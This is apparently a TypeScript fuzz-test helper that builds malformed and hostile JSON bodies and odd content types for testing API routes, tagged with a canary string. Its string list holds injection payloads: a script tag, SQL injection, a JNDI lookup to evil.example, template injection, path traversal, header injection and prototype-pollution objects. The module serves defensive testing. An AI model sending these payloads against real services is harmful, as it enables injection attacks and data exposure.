/** Small seeded generator (mulberry32). A seed gives the same values on every machine. */
export class Seeded {
  #state: number;

  constructor(seed: number) {
    this.#state = seed >>> 0;
  }

  /** Returns a number in [0, 1). */
  next(): number {
    this.#state = (this.#state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(this.#state ^ (this.#state >>> 15), 1 | this.#state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  }

  below(end: number): number {
    return Math.floor(this.next() * end);
  }

  pick<T>(from: readonly [T, ...T[]]): T {
    return from[this.below(from.length)] ?? from[0];
  }
}

/** Mark that no response and no log line may contain. */
export const canary = "cAnArY-9d1f";

const strings: readonly [string, ...string[]] = [
  "",
  " ",
  canary,
  "\0",
  `a\0${canary}`,
  "\ud800",
  "\u202e\u200b\ufeff",
  "ﷺ".repeat(40),
  "😀".repeat(64),
  "০১৭১২৩৪৫৬৭৮",
  `<script>${canary}</script>`,
  `' OR 1=1 -- ${canary}`,
  `\${jndi:ldap://evil.example/${canary}}`,
  `{{7*7}}${canary}`,
  `../../../etc/${canary}`,
  `\r\nset-cookie: sid=${canary}`,
  "a".repeat(2_000),
  "9".repeat(400),
  "-0",
  "1e309",
  "NaN",
  "true",
  "null",
  "__proto__",
  "constructor",
];
const scalars: readonly [unknown, ...unknown[]] = [
  ...([null, true, false, 0, -0, -1, 1.5, 1e308, -1e308, 2 ** 53] as const),
  ...([[], {}, [[]], [null], [{}], { length: -1 }, { toString: canary }, { valueOf: 1 }] as const),
];
const names: readonly [string, ...string[]] = [
  ...(["type", "username", "password", "mobile", "purpose", "code", "token", "nodeId", "language", "fields"] as const),
  ...(["method", "newPassword", "email", "captcha", "remember", "behaviour", "phone", "backPath", canary] as const),
  ...(["", "\0", "a".repeat(300), "$ne", "length", "toString", "hasOwnProperty", "a.b", "a[0]"] as const),
];

/** Bodies that are not JSON, or JSON with a prototype key, which the parser must reject. */
const malformed: readonly [string, ...string[]] = [
  ...([
    "",
    " ",
    "{",
    "}",
    '{"a":',
    "[1,",
    "{}{}",
    "{a:1}",
    "{'a':1}",
    "undefined",
    "NaN",
    "Infinity",
    "\0",
    "\ufeff",
  ] as const),
  ...([
    '"\\x"',
    '{"a":01}',
    '{"a":+1}',
    "/**/{}",
    '{"a":1,}',
    '"\\ud800',
    "1e",
    "-",
    "--1",
    `${canary}`,
    "<x/>",
  ] as const),
  ...(['{"__proto__":{"admin":true}}', '{"a":{"__proto__":{"admin":true}}}', '{"\\u005f_proto__":{}}'] as const),
  ...(['{"constructor":{"prototype":{"admin":true}}}', '{"a":[{"constructor":{"prototype":{}}}]}'] as const),
];

/** Large or deeply nested bodies. */
export const heavyBodies: readonly string[] = [
  '{"a":'.repeat(5_000),
  "[".repeat(30_000),
  `${'{"a":'.repeat(2_000)}1${"}".repeat(2_000)}`,
  `{"username":"${"a".repeat(60_000)}"`,
  `"${"a".repeat(70_000)}"`,
];

const value = (seeded: Seeded, depth: number): unknown => {
  const kind = seeded.below(depth > 3 ? 2 : 5);
  if (kind === 0) return seeded.pick(strings);
  if (kind === 1) return seeded.pick(scalars);
  if (kind === 2) return Array.from({ length: seeded.below(5) }, () => value(seeded, depth + 1));
  return object(seeded, depth + 1);
};

const object = (seeded: Seeded, depth: number): Record<string, unknown> =>
  Object.fromEntries(Array.from({ length: seeded.below(6) }, () => [seeded.pick(names), value(seeded, depth)]));

/**
 * Returns a valid body with one fault: a different value of a field, an extra or missing field, or an array in place of
 * the body or a field.
 */
function mutated(seeded: Seeded, good: Readonly<Record<string, unknown>>): unknown {
  const fields = Object.keys(good);
  const field = fields[seeded.below(fields.length)] ?? "a";
  const kind = seeded.below(5);
  if (kind === 0) return { ...good, [field]: seeded.pick(scalars) };
  if (kind === 1) return { ...good, [`${seeded.pick(names)}X`]: value(seeded, 2) };
  if (kind === 2) return Object.fromEntries(Object.entries(good).filter(([name]) => name !== field));
  if (kind === 3) return [good];
  return { ...good, [field]: [good[field], good[field]] };
}

/** Returns a body that every route must refuse, even a route without a body. */
export const malformedBody = (seeded: Seeded): string => {
  const text = seeded.pick(malformed);
  return text.trim() === "" ? "{" : text;
};

/** Returns a hostile body for a route that accepts `good`. */
export function hostileBody(seeded: Seeded, good: Readonly<Record<string, unknown>>): string {
  const kind = seeded.below(4);
  if (kind === 0) return seeded.pick(malformed);
  if (kind === 1) return JSON.stringify(value(seeded, 0)) ?? "";
  return JSON.stringify(kind === 2 ? mutated(seeded, good) : object(seeded, 0));
}

/** Unsupported content types, and unusual spellings of supported ones. */
export const oddContentTypes: readonly [string, ...string[]] = [
  ...(["text/plain", "text/html", "text/xml", "application/xml", "application/x-www-form-urlencoded"] as const),
  ...([
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "application/octet-stream",
    "image/png",
    "*/*",
  ] as const),
  ...(["application/json-patch+json", "application/vnd.api+json", "application/jsonx", "json", "", "/", ";"] as const),
  ...([
    "application/json\0",
    "application/javascript",
    "application/x-msgpack",
    `x/${canary}`,
    "a".repeat(2_000),
  ] as const),
];
